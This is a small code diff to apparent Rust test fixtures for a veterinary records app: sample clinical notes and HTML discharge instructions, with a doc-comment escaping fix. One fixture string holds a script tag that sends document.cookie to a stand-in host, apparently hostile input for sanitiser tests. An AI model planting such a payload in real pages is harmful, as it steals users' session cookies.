@@ -190,7 +190,7 @@ pub(super) const NOTES: [&str; 8] = [
     "Lameness 2/5 LH, positive drawer. DDx: CCL rupture, meniscal injury.",
 ];
 
-/// Discharge instructions, markup and hostile markup included [C: the text may hold HTML].
+/// Discharge instructions, markup and hostile markup included \[C: the text may hold HTML\].
 pub(super) const DISCHARGES: [&str; 5] = [
     "<p>Keep the wound <strong>clean and dry</strong> for 10 days.</p><p>Ring us if it swells.</p>",
     "<p>Give the tablets with food.</p><script>fetch('https://example.invalid/'+document.cookie)</script>",
